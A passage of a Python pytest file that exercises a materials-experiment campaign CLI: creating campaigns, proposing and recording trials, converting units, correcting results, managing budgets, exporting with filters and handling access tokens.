from __future__ import annotations

import csv
import hashlib
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from agents import CampaignAgent
from db import CampaignStore
from db.documents import MeasurementDocument
from db.server import free_port
from matloop.cli import app

REPO = Path(__file__).resolve().parents[1]
OLYMPUS = REPO / "matloop" / "data" / "olympus" / "photo_pce10"
EXAMPLES = REPO / "examples"


def _ok(cli: CliRunner, *args: str) -> str:
    result = cli.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def test_campaign_life_cycle_from_the_command_line(cli: CliRunner, tmp_path: Path) -> None:
    assert "1040 candidates" in _ok(
        cli, "campaign", "create", "opv", "--from-olympus", str(OLYMPUS)
    )
    assert "opv" in _ok(cli, "campaign", "list")
    proposed = json.loads(_ok(cli, "campaign", "propose", "opv", "-n", "3", "--json"))
    assert len(proposed) == 3 and all(p["strategy"] == "random" for p in proposed)
    trial = proposed[0]["trial_id"]
    args = ("campaign", "observe", "opv", "--trial", trial, "--value", "degradation=0.05")
    assert "stored 1, already stored 0" in _ok(cli, *args)
    assert "stored 0, already stored 1" in _ok(cli, *args)  # same key: stored once

    results = tmp_path / "results.csv"
    results.write_text(f"trial_id,degradation\n{proposed[1]['trial_id']},0.07\n")
    assert "stored 1" in _ok(cli, "campaign", "observe", "opv", "--from-file", str(results))

    shown = json.loads(_ok(cli, "campaign", "show", "opv", "--json"))
    assert shown["measurements"] == 2
    assert shown["best"]["values"] == {"degradation": 0.05}

    exported = _ok(cli, "campaign", "export", "opv", "--format", "Csv")  # any case
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert len(rows) == 3
    assert {"claimed_by", "reason", "units"} <= set(rows[0])
    assert {r["status"] for r in rows} == {"completed", "proposed"}
    out = tmp_path / "opv.json"
    _ok(cli, "campaign", "export", "opv", "--format", "json", "--output", str(out))
    assert len(json.loads(out.read_text())) == 3


@pytest.mark.parametrize("unmeasured", [False, True])
def test_a_campaign_names_the_sha256_of_the_pool_file_it_was_read_from(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, unmeasured: bool
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")
    pool = tmp_path / "pool.csv"
    pool.write_bytes(b"x,degradation\n0.1,1.0\n0.2,2.0\n")
    create = ["campaign", "create", "opv", "--from-csv", str(pool), "--param", "x"]
    _ok(cli, *create, "--objective", "degradation:min", *["--unmeasured"] * unmeasured)
    pool.write_bytes(b"x,degradation\n0.1,1.5\n0.2,2.0\n")  # the file changes later
    digest = hashlib.sha256(b"x,degradation\n0.1,1.0\n0.2,2.0\n").hexdigest()
    assert f"candidates from {pool.resolve()} (sha256 {digest})" in _ok(
        cli, "campaign", "show", "opv"
    )
    assert json.loads(_ok(cli, "campaign", "show", "opv", "--json"))["source_sha256"] == digest


def test_rounds_refused_a_strategy_do_not_first_say_they_switch_to_it(cli: CliRunner) -> None:
    absorbers = str(Path(__file__).resolve().parents[1] / "examples" / "data" / "absorbers.csv")
    _ok(cli, "campaign", "create", "pv", "--from-csv", absorbers, "--param", "x", "--param",
        "z", "--objective", "efficiency:max:%", "--constraint", "band_gap:1.1:1.7:eV")  # fmt: skip
    ran = cli.invoke(app, ["campaign", "run", "pv", "--rounds", "1", "--acquisition", "portfolio"])
    assert ran.exit_code == 1 and "strategy 'portfolio' chooses for one objective" in ran.output
    assert "these rounds choose with" not in ran.output


def test_a_budget_the_random_design_spends_whole_is_noted(
    cli: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")
    create = ["campaign", "create", "opv", "--from-olympus", "photo_pce10", "--budget", "5"]
    assert "the random initial design takes 10: the model never chooses one" in _ok(cli, *create)
    fine = _ok(cli, "campaign", "create", "opv2", "--from-olympus", "photo_pce10", "--budget", "20")
    assert "never chooses" not in fine


def test_trials_handed_out_read_whole_in_80_columns(
    cli: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "80")  # a log, a pipe: rich's width off a terminal
    _ok(cli, "campaign", "create", "opv", "--from-olympus", "photo_pce10")
    table = _ok(cli, "campaign", "claim", "opv", "-n", "2")
    assert "…" not in table and "acquisition_value" not in table  # none for a random trial
    rows = [line for line in table.splitlines() if "b0000" in line]
    assert len(rows) == 2 and all("random" in row for row in rows)


def test_observe_from_a_json_file_refuses_a_key_given_twice(cli: CliRunner, tmp_path: Path) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_text("x,degradation\n0.1,1.0\n0.2,2.0\n")
    create = ("campaign", "create", "opv", "--from-csv", str(pool), "--param", "x")
    _ok(cli, *create, "--objective", "degradation:min:1/h")
    one, two = json.loads(_ok(cli, "campaign", "propose", "opv", "-n", "2", "--json"))
    path = tmp_path / "results.json"
    rows = [
        f'{{"trial_id": "{one["trial_id"]}", "values": {{"degradation": 1}}}}',
        f'{{"trial_id": "{two["trial_id"]}", "values": {{"degradation": 1, "degradation": 2}}}}',
    ]
    path.write_text("[\n  " + ",\n  ".join(rows) + "\n]\n")
    result = cli.invoke(app, ["campaign", "observe", "opv", "--from-file", str(path)])
    assert result.exit_code == 1
    said = " ".join(result.output.split())  # the row named: JSON's reader gives no position
    assert f'{path}: results[1]: the key "degradation" is given twice in one object' in said
    assert MeasurementDocument.objects.count() == 0


def test_observe_from_a_json_file_keeps_each_row_source_units_and_key(
    cli: CliRunner, tmp_path: Path
) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_text("x,degradation\n0.1,1.0\n0.2,2.0\n0.3,1.5\n")
    create = ("campaign", "create", "opv", "--from-csv", str(pool), "--param", "x")
    _ok(cli, *create, "--objective", "degradation:min:1/h")
    first, second = (
        t["trial_id"]
        for t in json.loads(_ok(cli, "campaign", "propose", "opv", "-n", "2", "--json"))
    )
    rows = [
        {
            "trial_id": first,
            "values": {"degradation": 1},
            "source": "xrd-2",
            "units": {"degradation": "1/min"},
        },
        {"trial_id": second, "values": {"degradation": 0.5}, "idempotency_key": "k-1"},
    ]
    path = tmp_path / "results.json"
    path.write_text(json.dumps(rows))
    args = ("campaign", "observe", "opv", "--from-file", str(path), "--source", "lab")
    assert "stored 2, already stored 0" in _ok(cli, *args)
    stored = {m.idempotency_key: m for m in MeasurementDocument.objects}
    assert set(stored) == {f"xrd-2:{first}", "k-1"}
    assert stored[f"xrd-2:{first}"].source == "xrd-2"
    assert stored[f"xrd-2:{first}"].values == {"degradation": pytest.approx(60.0)}
    assert stored[f"xrd-2:{first}"].units == {"degradation": "1/h"}
    assert stored["k-1"].source == "lab" and stored["k-1"].values == {"degradation": 0.5}


def test_observe_reads_a_proposal_kept_in_the_results_file_and_still_names_a_typo(
    cli: CliRunner, tmp_path: Path
) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_text("formula,gap\nFe2O3,2.0\nZnO,3.3\nMgO,7.0\n")
    create = ("campaign", "create", "ox", "--from-csv", str(pool), "--composition", "formula")
    _ok(cli, *create, "--objective", "gap:max:eV")
    proposed = json.loads(_ok(cli, "campaign", "propose", "ox", "-n", "2", "--json"))
    # a lab echoes the proposal back, its measurement added
    results = tmp_path / "results.csv"
    columns = ["trial_id", "batch", "strategy", "formula", "Fe", "gap"]
    lines = [",".join(columns)] + [
        ",".join(str(row.get(c, "")) for c in columns[:-1]) + ",1.5" for row in proposed
    ]
    results.write_text("\n".join(lines) + "\n")
    assert "stored 2" in _ok(cli, "campaign", "observe", "ox", "--from-file", str(results))
    typo = tmp_path / "typo.csv"
    typo.write_text(f"trial_id,formula,gpa\n{proposed[0]['trial_id']},ZnO,1.0\n")
    failed = cli.invoke(app, ["campaign", "observe", "ox", "--from-file", str(typo)])
    assert failed.exit_code == 1
    said = " ".join(failed.output.split())
    assert said.endswith(
        "typo.csv: column(s) ['gpa'] are not outcomes of the campaign (['gap']) nor a "
        "proposal's columns: rename or drop them"
    ), said


def test_export_takes_the_apis_trials_filter(cli: CliRunner, tmp_path: Path) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_text("formula,gap\nFe2O3,2.0\nZnO,3.3\nMgO,7.0\nFeO,2.4\n")
    create = ("campaign", "create", "ox", "--from-csv", str(pool), "--composition", "formula")
    _ok(cli, *create, "--objective", "gap:max:eV", "--strategy", "random")
    _ok(cli, "campaign", "propose", "ox", "-n", "4")

    def exported(text: str) -> list[str]:
        export = ("campaign", "export", "ox", "--format", "json", "--filter", text)
        rows = json.loads(_ok(cli, *export))
        return sorted(row["formula"] for row in rows)

    assert exported('elements HAS "Fe"') == ["Fe2O3", "FeO"]
    assert exported('chemical_formula_reduced = "Fe4O6"') == ["Fe2O3"]
    assert exported("fraction.o > 0.55") == ["Fe2O3"]
    assert exported('status = "proposed" AND NOT elements HAS "Fe"') == ["MgO", "ZnO"]
    assert exported('elements HAS ANY "Cu","Zn"') == ["ZnO"]  # no Cu: in no trial
    unknown = cli.invoke(app, ["campaign", "export", "ox", "--filter", 'elements HAS "cu"'])
    assert unknown.exit_code == 1
    said = " ".join(unknown.output.split())
    assert "--filter: elements: 'cu' is not an element symbol (case matters)" in said, said


def test_campaign_list_shows_long_names_whole(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "80")  # a terminal's width, or rich's off one
    pool = tmp_path / "pool.csv"
    pool.write_text("x,y\n" + "".join(f"{i / 10},{i}\n" for i in range(10)))
    name = "backtest-1a2b3c-gp_top_iwarp_warp_endgame-s0"  # as a kept backtest names one
    strategy = "gp+top+iwarp+warp+endgame"
    create = ("campaign", "create", name, "--from-csv", str(pool), "--objective", "y:max")
    _ok(cli, *create, "--strategy", strategy, "--budget", "6")
    listed = _ok(cli, "campaign", "list")
    assert name in listed  # on one line, as it is typed back; the other columns fold
    cells = [line.split("│")[2].strip() for line in listed.splitlines() if "│" in line]
    assert "".join(cells) == strategy


def test_budget_changes_and_an_endgame_keeps_one(cli: CliRunner, tmp_path: Path) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_text("x,y\n" + "".join(f"{i / 10},{i}\n" for i in range(10)))
    create = ("campaign", "create", "c", "--from-csv", str(pool), "--objective", "y:max")
    _ok(cli, *create, "--strategy", "gp+top+endgame", "--budget", "6")
    assert "budget of c: 6 -> 8 (0 experiments done or out)" in _ok(
        cli, "campaign", "budget", "c", "8"
    )
    ended = cli.invoke(app, ["campaign", "budget", "c", "--open-ended"])
    assert ended.exit_code != 0 and "budget: strategy gp+top+endgame" in ended.output
    both = cli.invoke(app, ["campaign", "budget", "c", "9", "--open-ended"])
    assert both.exit_code != 0 and "give either a BUDGET or --open-ended" in both.output


def test_trials_are_cancelled_or_failed_from_the_command_line_to_free_the_budget(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")
    pool = tmp_path / "pool.csv"
    pool.write_text("x,y\n" + "".join(f"{i / 10},{i}\n" for i in range(10)))
    _ok(cli, "campaign", "create", "c", "--from-csv", str(pool), "--objective", "y:max")
    _ok(cli, "campaign", "budget", "c", "4")
    one, two, three, four = (
        t["trial_id"] for t in json.loads(_ok(cli, "campaign", "propose", "c", "-n", "4", "--json"))
    )
    _ok(cli, "campaign", "claim", "c", "-n", "1")  # the first proposed: taken by hand
    cut = cli.invoke(app, ["campaign", "budget", "c", "2"])
    assert cut.exit_code == 1 and "(`matloop campaign cancel c --waiting`" in cut.output
    assert "cancelled 1 trial(s) of c" in _ok(cli, "campaign", "cancel", "c", two)
    assert "cancelled 1 trial(s) of c" in _ok(cli, "campaign", "cancel", "c", two)  # again
    assert "failed 1 trial(s) of c" in _ok(cli, "campaign", "fail", "c", three, "--reason", "x")
    assert "cancelled 1 trial(s) of c" in _ok(cli, "campaign", "cancel", "c", "--waiting")
    trials = {t.id: t for t in CampaignStore().trials("c")}
    assert [trials[t].status.value for t in (one, two, three, four)] == [
        "running",  # claimed by hand: --waiting leaves it
        "abandoned",
        "failed",
        "abandoned",
    ]
    assert trials[three].reason == "x"
    assert "budget of c: 4 -> 2" in _ok(cli, "campaign", "budget", "c", "2")  # places freed
    refused = cli.invoke(app, ["campaign", "fail", "c", two, one])  # two: cancelled before
    assert refused.exit_code == 1 and "failed 1 trial(s) of c" in refused.output
    assert two in refused.output and CampaignStore().trial("c", one).status.value == "failed"
    bare = cli.invoke(app, ["campaign", "cancel", "c"])
    assert bare.exit_code == 1 and "or --waiting for every unclaimed one" in bare.output
    bare = cli.invoke(app, ["campaign", "fail", "c"])  # which has no --waiting
    assert bare.exit_code == 1 and "name the trials (their ids)" in bare.output
    assert "--waiting" not in bare.output


def test_correct_replaces_a_wrong_result_in_the_unit_given_and_exports_the_old(
    cli: CliRunner, tmp_path: Path
) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_text("x,gap\n0.1,1.0\n0.2,2.0\n0.3,1.5\n")
    _ok(cli, "campaign", "create", "pv", "--from-csv", str(pool), "--objective", "gap:max:eV")
    proposed = json.loads(_ok(cli, "campaign", "propose", "pv", "-n", "1", "--json"))
    trial = proposed[0]["trial_id"]
    _ok(cli, "campaign", "observe", "pv", "--trial", trial, "--value", "gap=2200")  # meant meV
    fix = ("campaign", "correct", "pv", "--trial", trial, "--value", "gap=2200", "--unit")
    args = (*fix, "gap=meV", "--reason", "meV, not eV", "--key", "fix-1", "--by", "ana")
    assert f"trial {trial}: gap=2200 -> gap=2.2" in _ok(cli, *args)
    assert "already corrected under 'fix-1': gap=2.2" in _ok(cli, *args)
    (row,) = json.loads(_ok(cli, "campaign", "export", "pv", "--format", "json"))
    assert row["gap"] == pytest.approx(2.2)
    (old,) = row["corrections"]
    assert (old["values"], old["reason"], old["by"]) == ({"gap": 2200.0}, "meV, not eV", "ana")


def test_a_correction_records_the_metrics_history_again_from_its_result_on(
    cli: CliRunner, tmp_path: Path
) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_text("x,gap\n0.1,1.0\n0.2,2.0\n0.3,1.5\n0.4,1.2\n")
    _ok(cli, "campaign", "create", "pv", "--from-csv", str(pool), "--objective", "gap:max:eV")
    first, second, third = (
        t["trial_id"]
        for t in json.loads(_ok(cli, "campaign", "propose", "pv", "-n", "3", "--json"))
    )
    for trial, gap in ((first, "1.0"), (second, "2200"), (third, "1.5")):  # 2200: meant meV
        _ok(cli, "campaign", "observe", "pv", "--trial", trial, "--value", f"gap={gap}")
    fix = ("campaign", "correct", "pv", "--trial", second, "--value", "gap=2.2")
    _ok(cli, *fix, "--reason", "meV, not eV", "--key", "fix-1")
    history = json.loads(_ok(cli, "campaign", "show", "pv", "--json"))["metrics_history"]
    # before the wrong result, as it was; from it on, as the results now are
    assert [(row["measurements"], row["best"]) for row in history] == [
        (1, 1.0),
        (2, 2.2),
        (3, 2.2),
    ]


def test_observe_converts_values_given_with_unit_options(cli: CliRunner, tmp_path: Path) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_text("x,degradation\n0.1,1.0\n0.2,2.0\n0.3,1.5\n")
    create = ("campaign", "create", "opv", "--from-csv", str(pool), "--param", "x")
    _ok(cli, *create, "--objective", "degradation:min:1/h")
    first, second, third = (
        t["trial_id"]
        for t in json.loads(_ok(cli, "campaign", "propose", "opv", "-n", "3", "--json"))
    )
    observe = ("campaign", "observe", "opv", "--unit", "degradation=1/min")
    _ok(cli, *observe, "--trial", first, "--value", "degradation=1")
    results = tmp_path / "results.csv"
    results.write_text(f"trial_id,degradation\n{second},0.5\n")
    _ok(cli, *observe, "--from-file", str(results))
    rows = [{"trial_id": third, "values": {"degradation": 2}, "units": {"degradation": "1/h"}}]
    (tmp_path / "results.json").write_text(json.dumps(rows))  # its own unit wins
    _ok(cli, *observe, "--from-file", str(tmp_path / "results.json"))
    stored = {m.idempotency_key: m for m in MeasurementDocument.objects}
    values = {k.split(":")[1]: m.values["degradation"] for k, m in stored.items()}
    assert values == {first: pytest.approx(60.0), second: pytest.approx(30.0), third: 2.0}
    assert all(m.units == {"degradation": "1/h"} for m in stored.values())


def test_export_keeps_the_value_and_unit_a_converted_result_was_reported_in(
    cli: CliRunner, tmp_path: Path
) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_text("x,tc\n0.1,20.0\n0.2,30.0\n")
    create = ("campaign", "create", "sc", "--from-csv", str(pool), "--param", "x")
    _ok(cli, *create, "--objective", "tc:max:K")
    first, second = (
        t["trial_id"]
        for t in json.loads(_ok(cli, "campaign", "propose", "sc", "-n", "2", "--json"))
    )
    in_celsius = ("campaign", "observe", "sc", "--trial", first, "--value", "tc=-250")
    assert "stored 1, already stored 0" in _ok(cli, *in_celsius, "--unit", "tc=degC")
    assert "stored 0, already stored 1" in _ok(cli, *in_celsius, "--unit", "tc=degC")  # retry
    _ok(cli, "campaign", "observe", "sc", "--trial", second, "--value", "tc=0.30000000000000004")
    rows = {
        r["trial_id"]: r for r in csv.DictReader(io.StringIO(_ok(cli, "campaign", "export", "sc")))
    }
    assert (rows[first]["tc"], json.loads(rows[first]["units"])) == ("23.15", {"tc": "K"})
    assert json.loads(rows[first]["reported"]) == {"tc": {"value": -250.0, "unit": "degC"}}
    assert (rows[second]["tc"], rows[second]["reported"]) == ("0.30000000000000004", "{}")
    exported = json.loads(_ok(cli, "campaign", "export", "sc", "--format", "json", "--output", "-"))
    by_trial = {r["trial_id"]: r for r in exported}  # '-': stdout, as the help says
    assert by_trial[first]["reported"] == {"tc": {"value": -250.0, "unit": "degC"}}
    assert by_trial[second]["reported"] == {}  # measured, nothing converted: as the API's
    assert not (Path.cwd() / "-").exists()
    twice = cli.invoke(app, ["campaign", "observe", "sc", "--trial", second, "--value", "tc=1",
                             "--value", "tc=2"])  # fmt: skip
    assert twice.exit_code == 1 and "--value: 'tc' is given two values" in twice.output


@pytest.mark.parametrize(
    ("unit", "message"),
    [
        ("degradation", "--unit 'degradation': expected OUTCOME=UNIT"),
        ("gap=eV", "--unit 'gap' is not an outcome; the outcomes are ['degradation']"),
        ("degradation=kg", "--unit degradation: 'kg' cannot be converted to '1/h'"),
    ],
)
def test_observe_refuses_a_bad_unit_option_and_stores_nothing(
    cli: CliRunner, tmp_path: Path, unit: str, message: str
) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_text("x,degradation\n0.1,1.0\n0.2,2.0\n")
    create = ("campaign", "create", "opv", "--from-csv", str(pool), "--param", "x")
    _ok(cli, *create, "--objective", "degradation:min:1/h")
    (trial,) = json.loads(_ok(cli, "campaign", "propose", "opv", "-n", "1", "--json"))
    args = ["--trial", trial["trial_id"], "--value", "degradation=1", "--unit", unit]
    result = cli.invoke(app, ["campaign", "observe", "opv", *args])
    assert result.exit_code == 1 and message in result.output
    assert MeasurementDocument.objects.count() == 0


def test_a_shipped_olympus_set_is_named_without_its_folder(cli: CliRunner) -> None:
    created = _ok(cli, "campaign", "create", "opv", "--from-olympus", "photo_pce10")
    assert "1040 candidates" in created
    missing = cli.invoke(app, ["campaign", "create", "x", "--from-olympus", "no_such_set"])
    assert missing.exit_code == 1
    assert "the folder 'no_such_set' does not exist, and no set of that name is shipped" in (
        missing.output
    )
    folder = "/no/such/olympus/set"
    missing = cli.invoke(app, ["campaign", "create", "x", "--from-olympus", folder])
    assert missing.exit_code == 1, missing.output
    assert f"--from-olympus: the folder '{folder}' does not exist" in missing.output
    assert "config.json" not in missing.output  # the folder is missing, not a file in it


def test_run_then_show_reports_ef_and_af(cli: CliRunner) -> None:
    _ok(
        cli,
        "campaign",
        "create",
        "opv",
        "--from-olympus",
        str(OLYMPUS),
        "--initial",
        "6",
        "--batch",
        "3",
    )
    _ok(cli, "campaign", "propose", "opv", "-n", "2")  # the lab asked for work: queued
    ran = " ".join(_ok(cli, "campaign", "run", "opv", "--rounds", "2").split())
    # looked up first, and said so: a lab may be measuring them
    assert "measured 2 trials proposed before this run (the queue) first" in ran
    assert "round 0/2: stored 4" in ran and "round 2/2: stored 3" in ran  # 2 + 4 = 6, then 3s
    shown = json.loads(_ok(cli, "campaign", "show", "opv", "--json"))
    assert shown["measurements"] == 12
    assert shown["rounds"] == 2
    assert shown["efficiency"]["enhancement_factor"] >= 0
    assert shown["efficiency"]["pool_best"] == pytest.approx(0.001622641)


def test_a_new_campaign_shows_it_has_no_trials_yet(cli: CliRunner) -> None:
    _ok(cli, "campaign", "create", "opv", "--from-olympus", str(OLYMPUS))
    assert "trials: none yet" in _ok(cli, "campaign", "show", "opv")
    shown = json.loads(_ok(cli, "campaign", "show", "opv", "--json"))
    assert set(shown["trials"].values()) == {0} and shown["measurements"] == 0
    _ok(cli, "campaign", "propose", "opv", "-n", "2")
    assert "trials: proposed 2" in _ok(cli, "campaign", "show", "opv")


def test_a_run_stops_at_the_campaigns_budget(cli: CliRunner) -> None:
    args = ("--from-olympus", str(OLYMPUS), "--initial", "6", "--batch", "3", "--budget", "8")
    _ok(cli, "campaign", "create", "opv", *args)
    ran = _ok(cli, "campaign", "run", "opv", "--rounds", "5")
    assert "stopped after 1 round: its budget of 8 experiments is spent" in ran
    assert json.loads(_ok(cli, "campaign", "show", "opv", "--json"))["measurements"] == 8
    assert "budget=8" in _ok(cli, "campaign", "show", "opv")
    spent = _ok(cli, "campaign", "propose", "opv")
    assert "nothing proposed: its budget of 8 experiments is spent" in spent
    assert "trial_id" not in spent  # no empty table beside the note
    as_json = cli.invoke(app, ["campaign", "propose", "opv", "--json"])
    assert as_json.exit_code == 0 and json.loads(as_json.stdout) == []  # the note on stderr


def test_a_closed_campaign_is_shown_closed_and_hands_out_no_more_work(cli: CliRunner) -> None:
    _ok(cli, "campaign", "create", "opv", "--from-olympus", str(OLYMPUS), "--initial", "4")
    [first, *_] = json.loads(_ok(cli, "campaign", "propose", "opv", "-n", "3", "--json"))
    closed = _ok(cli, "campaign", "close", "opv")
    assert "opv closed: 3 trials abandoned (proposed, or its lease ran out)" in closed
    assert "opv was already closed" in _ok(cli, "campaign", "close", "opv")  # not an error
    for command in (["propose", "opv"], ["run", "opv", "--rounds", "1"]):
        refused = cli.invoke(app, ["campaign", *command])
        assert refused.exit_code == 1, refused.output
        assert "campaign 'opv' is closed" in refused.output
    assert "status=closed" in _ok(cli, "campaign", "show", "opv")
    shown = json.loads(_ok(cli, "campaign", "show", "opv", "--json"))
    assert shown["status"] == "closed" and shown["trials"]["abandoned"] == 3
    assert "closed" in _ok(cli, "campaign", "list")
    _ok(cli, "campaign", "create", "next", "--from-olympus", str(OLYMPUS))
    running = _ok(cli, "campaign", "list", "--status", "active")
    assert "next" in running and "opv" not in running
    ended = _ok(cli, "campaign", "list", "--status", "closed")
    assert "opv" in ended and "next" not in ended
    odd = cli.invoke(app, ["campaign", "list", "--status", "done"])
    assert odd.exit_code == 1 and "--status: 'done' is not one of active, closed" in odd.output
    late = ("campaign", "observe", "opv", "--trial", first["trial_id"], "--value", "degradation=1")
    refused = cli.invoke(app, list(late))
    assert refused.exit_code == 1 and "abandoned (campaign closed)" in refused.output
    ghost = cli.invoke(app, ["campaign", "close", "ghost"])
    assert ghost.exit_code == 1 and "no campaign named 'ghost'" in ghost.output


def test_a_campaign_created_by_mistake_is_deleted_and_its_name_is_free(cli: CliRunner) -> None:
    _ok(cli, "campaign", "create", "opv", "--from-olympus", str(OLYMPUS), "--initial", "4")
    [first, *_] = json.loads(_ok(cli, "campaign", "propose", "opv", "-n", "3", "--json"))
    unconfirmed = cli.invoke(app, ["campaign", "delete", "opv"])  # no terminal to ask on
    assert unconfirmed.exit_code == 1
    assert "deleting campaign 'opv' with 3 trials and 0 results: pass --yes" in " ".join(
        unconfirmed.output.split()
    )
    _ok(cli, "campaign", "observe", "opv", "--trial", first["trial_id"], "--value", "degradation=1")
    measured = cli.invoke(app, ["campaign", "delete", "opv", "--yes"])
    assert measured.exit_code == 1
    assert "campaign 'opv' has 1 result: deleting it loses them; pass --with-results" in " ".join(
        measured.output.split()
    )
    assert "opv" in _ok(cli, "campaign", "list")  # refused: all of it still there
    deleted = _ok(cli, "campaign", "delete", "opv", "--with-results", "--yes")
    assert "deleted campaign 'opv' with 3 trials and 1 result" in deleted
    assert "opv" not in _ok(cli, "campaign", "list")
    _ok(cli, "campaign", "create", "opv", "--from-olympus", str(OLYMPUS))  # the name is free
    assert json.loads(_ok(cli, "campaign", "show", "opv", "--json"))["measurements"] == 0
    ghost = cli.invoke(app, ["campaign", "delete", "ghost", "--yes"])
    assert ghost.exit_code == 1 and "no campaign named 'ghost'" in ghost.output


def test_values_are_printed_as_stored_not_as_markup(cli: CliRunner, tmp_path: Path) -> None:
    pool = tmp_path / "smiles.csv"
    pool.write_text("x,smiles,y\n0.1,c1cc[nH]c1,9\n0.3,CCO,2\n0.5,CC[n+]C,5\n")
    params = ("--param", "x", "--param", "smiles", "--initial", "3")
    _ok(cli, "campaign", "create", "mol", "--from-csv", str(pool), "--objective", "y:max", *params)
    proposed = _ok(cli, "campaign", "propose", "mol", "-n", "3")
    assert "CC[n+]C" in proposed and "c1cc[n" in proposed  # not "CCC", "c1ccc1"
    [trial] = [
        r
        for r in json.loads(_ok(cli, "campaign", "export", "mol", "--format", "json"))
        if r["smiles"] == "c1cc[nH]c1"
    ]
    observed = ("--trial", trial["trial_id"], "--value", "y=9")
    _ok(cli, "campaign", "observe", "mol", *observed)
    assert "'smiles': 'c1cc[nH]c1'" in _ok(cli, "campaign", "show", "mol")


def test_a_token_bound_to_an_instrument_is_listed_with_it(cli: CliRunner) -> None:
    args = ("token", "create", "xrd", "--role", "instrument", "--campaign", "opv")
    created = cli.invoke(app, [*args, "--instrument", "xrd-2"])
    assert created.exit_code == 0 and "instrument 'xrd-2'" in created.output, created.output
    assert created.stdout.strip().startswith("mlp_")
    assert "note: no campaign named 'opv' yet" in created.output  # a typo, or one to come
    [row] = [line for line in _ok(cli, "token", "list").splitlines() if "xrd" in line]
    assert "xrd-2" in row
    refused = cli.invoke(app, ["token", "create", "ann", "--instrument", "xrd-2"])
    assert refused.exit_code != 0 and "instrument: only an instrument token" in refused.output


def test_a_revoked_tokens_name_is_never_given_again_and_says_why(cli: CliRunner) -> None:
    _ok(cli, "token", "create", "robot", "--role", "researcher")
    taken = cli.invoke(app, ["token", "create", "robot", "--role", "researcher"])
    assert taken.exit_code == 1 and "already exists" in taken.output
    assert "revoked" not in taken.output
    _ok(cli, "token", "revoke", "robot")
    again = " ".join(
        cli.invoke(app, ["token", "create", "robot", "--role", "researcher"]).output.split()
    )
    assert (
        "a token named 'robot' already exists (revoked: a name is never given to another" in again
    )


def test_a_bad_token_name_is_refused_naming_it(cli: CliRunner) -> None:
    result = cli.invoke(app, ["token", "create", "bad name"])
    assert result.exit_code == 1 and "name: 'bad name' must start" in result.output
    assert "Traceback" not in result.output
    result = cli.invoke(app, ["token", "create", "r", "--role", "instrument", "--campaign", "[/]"])
    assert result.exit_code == 1 and "campaigns: '[/]' is not a campaign name" in result.output
    assert "r" not in _ok(cli, "token", "list").split()  # nothing stored


def test_column_names_are_printed_as_written(cli: CliRunner, tmp_path: Path) -> None:
    pool = tmp_path / "gaps.csv"
    pool.write_text("x,gap [eV]\n0.1,1.0\n0.2,2.0\n0.3,1.5\n")
    made = _ok(
        cli, "campaign", "create", "g", "--from-csv", str(pool), "--objective", "gap [eV]:max"
    )
    assert "objective gap [eV] (max)" in made
    assert "best gap [eV] = 2" in _ok(cli, "campaign", "run", "g", "--rounds", "0")


def test_create_from_csv_with_chosen_parameters(cli: CliRunner, tmp_path: Path) -> None:
    table = tmp_path / "alloys.csv"
    table.write_text(
        "x,y,solvent,hardness,notes\n0.1,1,water,3.5,a\n0.2,2,ethanol,4.5,b\n0.3,3,water,2.5,c\n"
    )
    output = _ok(
        cli,
        "campaign",
        "create",
        "alloys",
        "--from-csv",
        str(table),
        "--objective",
        "hardness:max",
        "--param",
        "x",
        "--param",
        "y",
        "--param",
        "solvent",
    )
    assert "3 candidates, 3 parameters" in output


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--from-csv", "missing.csv", "--objective", "y:max"], "not found"),
        (["--from-olympus", str(OLYMPUS), "--strategy", "magic"], "unknown strategy 'magic'"),
        (["--from-csv", "x.csv", "--objective", "y:up"], "direction must be max or min"),
        ([], "exactly one of"),
        (["--from-csv", "x.csv", "--objective", "y:max", "--grid", "5"], "need --elements"),
        (["--from-olympus", str(OLYMPUS), "--charge-balanced"], "need --elements"),
        (["--elements", "Li,O", "--objective", "y:max", "--param", "a"], "--param need --from-csv"),
        (
            ["--elements", "Li,O", "--objective", "y:max", "--composition", "f"],
            "--composition need --from-csv",
        ),
        (["--elements", "Li,O", "--objective", "$y:max"], "name '$y': an outcome or parameter"),
        (["--elements", "Li,O", "--objective", "y:max:"], "the unit after 'max' is empty"),
        (["--elements", "Li,O", "--objective", "y:max:%:x"], "one unit after 'max', not '%:x'"),
        (["--elements", "Li,O", "--objective", ":max"], "the name before the direction is empty"),
        (
            ["--elements", "Li,O", "--objective", "y:max", "--constraint", "g:abc:1.7"],
            "--constraint 'g:abc:1.7': the lower bound 'abc' is not a number",
        ),
        (["--elements", "Li,O", "--objective", "y:max", "--constraint", "g:1:2:"], "[:UNIT]"),
        (["--from-olympus", str(OLYMPUS), "--constraint", "g:1:2"], "Olympus set's columns"),
        (
            ["--from-csv", "x.csv", "--objective", "y:max", "--constraint", "y:1:2"],
            "--objective and --constraint both name ['y']",
        ),
        (["--from-olympus", str(OLYMPUS), "--objective", "y:min:%"], "--objective cannot go"),
        (["--elements", "Li,O", "--objective", "y:max", "--min-elements", "4"], "--min-elements"),
        (
            ["--elements", "Li,Fe,O", "--objective", "y:max", "--substitute-from", "Fe2O3x"],
            "--substitute-from: 'Fe2O3x' is not a formula",
        ),
        (
            ["--from-csv", "dup.csv", "--composition", "f", "--objective", "y:max"],
